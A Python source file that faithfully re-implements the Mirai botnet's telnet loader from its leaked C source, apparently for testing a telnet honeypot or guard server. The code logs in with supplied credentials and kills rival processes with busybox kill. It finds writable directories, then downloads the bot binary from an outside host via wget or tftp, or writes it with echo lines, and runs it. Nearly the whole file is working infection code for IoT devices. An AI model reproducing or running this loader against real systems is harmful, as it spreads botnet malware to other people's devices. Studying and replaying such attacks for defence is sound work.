"""A replay of Mirai's loader, transcribed from its public source.

Transcribed from jgamblin/Mirai-Source-Code: the state machine of
C{handle_event} and the line-end timer of C{timeout_thread} in
C{loader/src/server.c}; the C{connection_consume_*} functions,
C{connection_upload_*} and C{connection_verify_payload} in
C{loader/src/connection.c}; C{util_memsearch} in C{loader/src/util.c};
the tokens and file names in C{loader/src/headers/includes.h}.  Its telnet
answers (C{consume_iacs}) are the same in C{mirai/bot/scanner.c}, whose
credential table is in L{bbs.guard.credentials}.

What matters for a server, kept exactly:

  - the telnet answers: C{DO} for every C{WILL}, C{WONT} for every C{DO}
    but NAWS, C{WILL NAWS} and C{SB NAWS 0 80 0 24} for C{DO NAWS}; only
    options at the start of the read buffer, and only while another byte
    follows them (C{can_consume});
  - prompts found by scanning the read buffer from its end for any of
    C{: > $ # %} (a match at index 0 counts as none), then C{ogin},
    C{enter} or C{assword} anywhere; consumed up to the match, so the prompt
    character stays at the head of the buffer;
  - the user name and the password sent without a line end; the C{CR LF}
    comes from the timer thread a second later (C{output_buffer}), and a
    password sent before it replaces it, so only one is sent;
  - the commands, in order, and each step's end found by its token
    (C{ECCHI: applet not found}), with C{util_memsearch}'s own matching;
  - the 8192-byte read buffer and its drains.

Not kept: the epoll workers (one connection here), the idle time-outs (the
caller's deadline stands for them) and the steps after the binary is run.
The caller may shorten the timer (C{line_end_delay}) to keep many runs fast:
what matters is that the line end comes later than the name.
"""

from __future__ import annotations

import select
import socket
import struct
import time

import attrs

TOKEN_QUERY = b"/bin/busybox ECCHI"
TOKEN_RESPONSE = b"ECCHI: applet not found"
EXEC_QUERY = b"/bin/busybox IHCCE"
EXEC_RESPONSE = b"IHCCE: applet not found"
VERIFY_STRING_HEX = b"\\x6b\\x61\\x6d\\x69"
VERIFY_STRING_CHECK = b"kami"
FN_DROPPER = b"upnp"
FN_BINARY = b"dvrHelper"
ID_TAG = b"telnet"
WGET_HOST, WGET_PORT, TFTP_HOST = b"100.200.100.100", 80, b"100.200.100.100"
RDBUF = 8192
PROMPT_CHARS = b":>$#%"

# loader/src/headers/connection.h, in order.
STATES = ("CLOSED", "CONNECTING", "READ_IACS", "USER_PROMPT", "PASS_PROMPT", "WAITPASS_PROMPT",
          "CHECK_LOGIN", "VERIFY_LOGIN", "PARSE_PS", "PARSE_MOUNTS", "READ_WRITEABLE",
          "COPY_ECHO", "DETECT_ARCH", "ARM_SUBTYPE", "UPLOAD_METHODS", "UPLOAD_ECHO",
          "UPLOAD_WGET", "UPLOAD_TFTP", "RUN_BINARY", "CLEANUP")

EM_ARM, EM_AARCH64, EM_MIPS, EM_MIPS_RS3_LE = 40, 183, 8, 10
EM_386, EM_486, EM_860, EM_X86_64 = 3, 6, 7, 62
EM_SPARC, EM_SPARC32PLUS, EM_SPARCV9, EM_68K, EM_88K = 2, 18, 43, 4, 5
EM_PPC, EM_PPC64, EM_SH = 20, 21, 42


def memsearch(buf: bytes | bytearray, buf_len: int, mem: bytes) -> int:
    """C{util_memsearch}: the index just past the first match, or -1.

    Its matching is naive (a mismatch starts over without looking at the
    byte again); kept as it is.
    """
    if len(mem) > buf_len:
        return -1
    matched = 0
    for i in range(buf_len):
        if buf[i] == mem[matched]:
            matched += 1
            if matched == len(mem):
                return i + 1
        else:
            matched = 0
    return -1


@attrs.define
class Result:
    """How far the loader got: the states it went through and what it sent."""

    states: list[str] = attrs.Factory(list)
    sent: list[bytes] = attrs.Factory(list)
    received: bytearray = attrs.Factory(bytearray)
    arch: str = ""
    upload_method: str = ""
    closed_by_server: bool = False

    @property
    def ran_binary(self) -> bool:
        """Whether it reached its download-and-run step (TELNET_RUN_BINARY)."""
        return "RUN_BINARY" in self.states


class MiraiLoader:
    """One connection of Mirai's loader to C{(host, port)}, as C{user}/C{password}."""

    def __init__(self, host: str, port: int, user: bytes, password: bytes, *,
                 source: str = "127.0.0.1", line_end_delay: float = 1.0,
                 binaries: dict[str, list[bytes]] | None = None) -> None:
        self.sock = socket.create_connection((host, port), timeout=10,
                                             source_address=(source, 0))
        self.sock.setblocking(False)
        self.user, self.password = user, password
        self.delay = line_end_delay
        # arch -> the echo lines' hex payloads (binary.c: 128 bytes a line).
        self.binaries = binaries if binaries is not None else {
            arch: _hex_lines(b"\x7fELF" + bytes(60)) for arch in ("arm", "arm7")}
        self.rdbuf = bytearray()
        self.state = "READ_IACS"
        self.output: bytes = b""  # output_buffer.data
        self.output_due: float | None = None  # output_buffer.deadline
        self.has_arch = False
        self.arch = ""
        self.upload_method = ""
        self.writedir = b""
        self.bin: list[bytes] | None = None
        self.echo_load_pos = 0
        self.open = True
        self.result = Result(states=[self.state])

    # -- the socket

    def send(self, data: bytes) -> None:
        self.result.sent.append(data)
        try:
            self.sock.sendall(data)
        except OSError:
            self.close()

    def close(self) -> None:
        if self.open:
            self.open = False
            self.sock.close()

    def _goto(self, state: str) -> None:
        self.state = state
        self.result.states.append(state)

    def run(self, deadline: float = 10.0, until: str = "RUN_BINARY") -> Result:
        """Talk until the loader reaches C{until}, the server hangs up, or the deadline."""
        end = time.monotonic() + deadline
        while self.open and self.state != until and time.monotonic() < end:
            wait = end - time.monotonic()
            if self.output_due is not None:
                wait = min(wait, max(0.0, self.output_due - time.monotonic()))
            readable, _, _ = select.select([self.sock], [], [], max(0.0, wait))
            if self.output_due is not None and time.monotonic() >= self.output_due:
                # timeout_thread: the line end of the user name or password.
                self.output_due = None
                self.send(self.output)
            if readable and self.open:
                self._read()
        self.result.arch, self.result.upload_method = self.arch, self.upload_method
        self.close()
        return self.result

    def _read(self) -> None:
        room = RDBUF - len(self.rdbuf)
        if room <= 0:
            self.close()  # recv of nothing: the loader takes it for an error
            return
        try:
            chunk = self.sock.recv(room)
        except BlockingIOError:
            return
        except OSError:
            chunk = b""
        if not chunk:
            self.result.closed_by_server = True
            self.close()
            return
        self.result.received += chunk
        self.rdbuf += chunk
        while self.open:
            consumed = self._step()
            if consumed == 0:
                break
            consumed = min(consumed, len(self.rdbuf))
            del self.rdbuf[:consumed]

    # -- handle_event's switch

    def _step(self) -> int:
        state = self.state
        if state == "READ_IACS":
            consumed = self._consume_iacs()
            if consumed:
                self._goto("USER_PROMPT")
            return consumed
        if state == "USER_PROMPT":
            consumed = self._consume_prompt(b"ogin", b"enter")
            if consumed:
                self.send(self.user)
                self._line_end_later()
                self._goto("PASS_PROMPT")
            return consumed
        if state == "PASS_PROMPT":
            consumed = self._consume_prompt(b"assword")
            if consumed:
                self.send(self.password)
                self._line_end_later()
                self._goto("WAITPASS_PROMPT")
            return consumed
        if state == "WAITPASS_PROMPT":
            consumed = self._consume_prompt()
            if consumed > 0:
                self.send(b"enable\r\n")
                self.send(b"shell\r\n")
                self.send(b"sh\r\n")
                self._goto("CHECK_LOGIN")
            return consumed
        if state == "CHECK_LOGIN":
            consumed = self._consume_prompt()
            if consumed > 0:
                self.send(TOKEN_QUERY + b"\r\n")
                self._goto("VERIFY_LOGIN")
            return consumed
        if state == "VERIFY_LOGIN":
            consumed = self._token()
            if consumed:
                self.send(b"/bin/busybox ps; " + TOKEN_QUERY + b"\r\n")
                self._goto("PARSE_PS")
            return consumed
        if state == "PARSE_PS":
            consumed = self._consume_psoutput()
            if consumed > 0:
                self.send(b"/bin/busybox cat /proc/mounts; " + TOKEN_QUERY + b"\r\n")
                self._goto("PARSE_MOUNTS")
            return consumed
        if state == "PARSE_MOUNTS":
            consumed = self._consume_mounts()
            if consumed:
                self._goto("READ_WRITEABLE")
            return consumed
        if state == "READ_WRITEABLE":
            consumed = self._consume_written_dirs()
            if consumed and self.open:
                self.send(b"cd " + self.writedir + b"/\r\n")
                self.send(b"/bin/busybox cp /bin/echo " + FN_BINARY + b"; >" + FN_BINARY
                          + b"; /bin/busybox chmod 777 " + FN_BINARY + b"; " + TOKEN_QUERY
                          + b"\r\n")
                self._goto("COPY_ECHO")
            return consumed
        if state == "COPY_ECHO":
            consumed = self._token()
            if consumed:
                if not self.has_arch:
                    self._goto("DETECT_ARCH")
                    # DO NOT COMBINE THESE
                    self.send(b"/bin/busybox cat /bin/echo\r\n")
                    self.send(TOKEN_QUERY + b"\r\n")
                else:
                    self._ask_upload_methods()
            return consumed
        if state == "DETECT_ARCH":
            consumed = self._consume_arch()
            if consumed:
                self.bin = self.binaries.get(self.arch)
                if self.bin is None:
                    self.close()
                elif self.arch == "arm":
                    self.send(b"cat /proc/cpuinfo; " + TOKEN_QUERY + b"\r\n")
                    self._goto("ARM_SUBTYPE")
                else:
                    self._ask_upload_methods()
            return consumed
        if state == "ARM_SUBTYPE":
            offset = self._token()
            if offset > 0:
                head = self.rdbuf
                if memsearch(head, offset, b"ARMv7") != -1 or memsearch(head, offset, b"ARMv6") != -1:
                    self.arch = "arm7"
                binary = self.binaries.get(self.arch)
                if binary is not None:
                    self.bin = binary
                self._ask_upload_methods()
            return offset
        if state == "UPLOAD_METHODS":
            offset = self._token()
            if offset:
                if memsearch(self.rdbuf, offset, b"wget: applet not found") == -1:
                    self.upload_method = "wget"
                    self._goto("UPLOAD_WGET")
                    self.send(b"/bin/busybox wget http://%s:%d/bins/mirai.%s -O - > %s; "
                              b"/bin/busybox chmod 777 %s; %s\r\n"
                              % (WGET_HOST, WGET_PORT, self.arch.encode(), FN_BINARY,
                                 FN_BINARY, TOKEN_QUERY))
                elif memsearch(self.rdbuf, offset, b"tftp: applet not found") == -1:
                    self.upload_method = "tftp"
                    self._goto("UPLOAD_TFTP")
                    self.send(b"/bin/busybox tftp -g -l %s -r mirai.%s %s; "
                              b"/bin/busybox chmod 777 %s; %s\r\n"
                              % (FN_BINARY, self.arch.encode(), TFTP_HOST, FN_BINARY,
                                 TOKEN_QUERY))
                else:
                    self.upload_method = "echo"
                    self._start_echo()
            return offset
        if state == "UPLOAD_ECHO":
            return self._upload_echo()
        if state == "UPLOAD_WGET":
            consumed = self._token()
            if consumed:
                self._run_binary(b"./" + FN_BINARY + b" %s.%s; " % (ID_TAG, self.arch.encode()))
            return consumed
        if state == "UPLOAD_TFTP":
            offset = self._token()
            if offset == -1 or offset == 0:
                return 0
            head = self.rdbuf
            if any(memsearch(head, offset, s) != -1
                   for s in (b"Permission denied", b"timeout", b"illegal option")):
                self.upload_method = "echo"
                self._start_echo()
            else:
                self._run_binary(b"./" + FN_BINARY + b" %s.%s; " % (ID_TAG, self.arch.encode()))
            return offset
        return 0

    # -- the consume functions of connection.c

    def _line_end_later(self) -> None:
        self.output = b"\r\n"
        self.output_due = time.monotonic() + self.delay

    def _consume_iacs(self) -> int:
        buf, end, consumed = self.rdbuf, len(self.rdbuf), 0
        ptr = 0
        while consumed < end:
            if buf[ptr] != 0xFF:
                break
            if not ptr + 1 < end:
                break
            if buf[ptr + 1] == 0xFF:
                ptr += 2
                consumed += 2
                continue
            if not ptr + 2 < end:
                break
            if buf[ptr + 1] == 0xFD and buf[ptr + 2] == 31:
                ptr += 3
                consumed += 3
                self.send(bytes((255, 251, 31)))
                self.send(bytes((255, 250, 31, 0, 80, 0, 24, 255, 240)))
                continue
            answer = bytearray(buf[ptr:ptr + 3])
            for i in range(3):
                if answer[i] == 0xFD:
                    answer[i] = 0xFC
                elif answer[i] == 0xFB:
                    answer[i] = 0xFD
            self.send(bytes(answer))
            ptr += 3
            consumed += 3
        return consumed

    def _consume_prompt(self, *fallbacks: bytes) -> int:
        buf = self.rdbuf + b"\0"  # rdbuf[rdbuf_pos] is the C string's end
        for i in range(len(self.rdbuf), -1, -1):
            if buf[i] in PROMPT_CHARS:
                return i
        for word in fallbacks:
            found = memsearch(self.rdbuf, len(self.rdbuf), word)
            if found != -1:
                return found
        return 0

    def _token(self) -> int:
        found = memsearch(self.rdbuf, len(self.rdbuf), TOKEN_RESPONSE)
        return 0 if found == -1 else found

    def _drain(self) -> None:
        if len(self.rdbuf) > 7168:
            del self.rdbuf[:6144]

    def _consume_psoutput(self) -> int:
        buf = self.rdbuf
        offset = memsearch(buf, len(buf), TOKEN_RESPONSE)
        upto = len(buf) if offset == -1 else offset
        start = 0
        for i in range(upto):
            if buf[i] == 0x0D:
                buf[i] = 0
            elif buf[i] == 0x0A:
                buf[i] = 0
                # Blanks end words; the first word is the pid, the last of
                # the third to fifth the process name.
                line = bytes(buf[start:i])
                for j in range(start, i):
                    if buf[j] in (0x20, 0x09):
                        buf[j] = 0
                words = [w for w in line.replace(b"\t", b" ").replace(b"\0", b" ").split(b" ") if w]
                if len(words) >= 3:
                    self._kill_suspects(words[0], words[min(len(words), 5) - 1])
                start = i + 1
        if offset == -1:
            self._drain()
            return 0
        buf[:] = buf.replace(b"\0", b" ")
        return offset

    def _kill_suspects(self, pid_text: bytes, name: bytes) -> None:
        digits = len(pid_text) - len(pid_text.lstrip(b"0123456789"))
        pid = int(pid_text[:digits]) if digits else 0  # atoi
        if pid != 1 and name in (b"init", b"[init]"):
            self.send(b"/bin/busybox kill -9 %d\r\n" % pid)
        elif pid > 400:
            numbers = 0
            for c in name:
                if 0x30 <= c <= 0x39:
                    numbers += 1
                elif 0x41 <= c <= 0x5A or 0x61 <= c <= 0x7A:
                    return
            if numbers:
                self.send(b"/bin/busybox kill -9 %d\r\n" % pid)

    def _consume_mounts(self) -> int:
        ending = self._token()
        if not ending:
            return 0
        for raw in bytes(self.rdbuf[:ending]).split(b"\n")[:-1]:
            fields = raw.replace(b"\r", b"").replace(b"\t", b" ").split()
            if len(fields) < 4:
                continue
            path, info = fields[1], fields[3]
            if path.endswith(b"/"):
                path = path[:-1]
            if b"rw" in info:
                self.send(b"/bin/busybox echo -e '%s%s' > %s/.nippon; /bin/busybox cat "
                          b"%s/.nippon; /bin/busybox rm %s/.nippon\r\n"
                          % (VERIFY_STRING_HEX, path, path, path, path))
        self.send(b"/bin/busybox echo -e '%s/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; "
                  b"/bin/busybox rm /dev/.nippon\r\n" % VERIFY_STRING_HEX)
        self.send(TOKEN_QUERY + b"\r\n")
        return ending

    def _consume_written_dirs(self) -> int:
        end_pos = memsearch(self.rdbuf, len(self.rdbuf), TOKEN_RESPONSE)
        if end_pos == -1:
            return 0
        found_writeable, total = False, 0
        while True:
            offset = memsearch(self.rdbuf[total:], end_pos - total, VERIFY_STRING_CHECK)
            if offset == -1:
                break
            total += offset
            path = bytes(self.rdbuf[total:]).split(b"\n", 1)[0]
            if path.endswith(b"\r"):
                path = path[:-1]
            self.send(b"rm %s/.t; rm %s/.sh; rm %s/.human\r\n" % (path, path, path))
            if not found_writeable:
                if len(path) < 31:
                    self.writedir = path
                    found_writeable = True
                else:
                    self.close()
        return end_pos

    def _consume_arch(self) -> int:
        if not self.has_arch:
            start = memsearch(self.rdbuf, len(self.rdbuf), b"ELF")
            if start == -1:
                return 0
            header = bytes(self.rdbuf[start - 4:start - 4 + 20]).ljust(20, b"\0")
            self.has_arch = True
            data = header[5]
            if data == 0:
                return 0
            (machine,) = struct.unpack("<H", header[18:20])
            if data == 2:  # EE_BIG on a little-endian loader
                machine = ((machine & 0xFF) << 8) | (machine >> 8)
            if machine in (EM_ARM, EM_AARCH64):
                self.arch = "arm"
            elif machine in (EM_MIPS, EM_MIPS_RS3_LE):
                self.arch = "mpsl" if data == 1 else "mips"
            elif machine in (EM_386, EM_486, EM_860, EM_X86_64):
                self.arch = "x86"
            elif machine in (EM_SPARC, EM_SPARC32PLUS, EM_SPARCV9):
                self.arch = "spc"
            elif machine in (EM_68K, EM_88K):
                self.arch = "m68k"
            elif machine in (EM_PPC, EM_PPC64):
                self.arch = "ppc"
            elif machine == EM_SH:
                self.arch = "sh4"
            else:
                self.arch = ""
                self.close()
            return 0
        offset = self._token()
        if offset:
            return offset
        self._drain()
        return 0

    def _ask_upload_methods(self) -> None:
        self.send(b"/bin/busybox wget; /bin/busybox tftp; " + TOKEN_QUERY + b"\r\n")
        self._goto("UPLOAD_METHODS")

    def _start_echo(self) -> None:
        self._goto("UPLOAD_ECHO")
        self.send(b"/bin/busybox cp " + FN_BINARY + b" " + FN_DROPPER + b"; > " + FN_DROPPER
                  + b"; /bin/busybox chmod 777 " + FN_DROPPER + b"; " + TOKEN_QUERY + b"\r\n")

    def _upload_echo(self) -> int:
        offset = self._token()
        if not offset:
            return 0
        if self.bin is None:
            self.close()
            return 0
        if self.echo_load_pos == len(self.bin):
            self._run_binary(b"./" + FN_DROPPER + b"; ./" + FN_BINARY + b" %s.%s; "
                             % (ID_TAG, self.arch.encode()))
            return offset
        self.send(b"echo -ne '%s' %s " % (self.bin[self.echo_load_pos],
                                          b">" if self.echo_load_pos == 0 else b">>")
                  + FN_DROPPER + b"; " + TOKEN_QUERY + b"\r\n")
        self.echo_load_pos += 1
        del self.rdbuf[:offset]  # "Hack drain"
        return 0

    def _run_binary(self, command: bytes) -> None:
        self._goto("RUN_BINARY")
        self.send(command + EXEC_QUERY + b"\r\n")


def _hex_lines(binary: bytes) -> list[bytes]:
    """binary.c's C{load}: the file as C{\\xNN} text, 128 bytes a line."""
    return [b"".join(b"\\x%02x" % byte for byte in binary[i:i + 128])
            for i in range(0, len(binary), 128)]
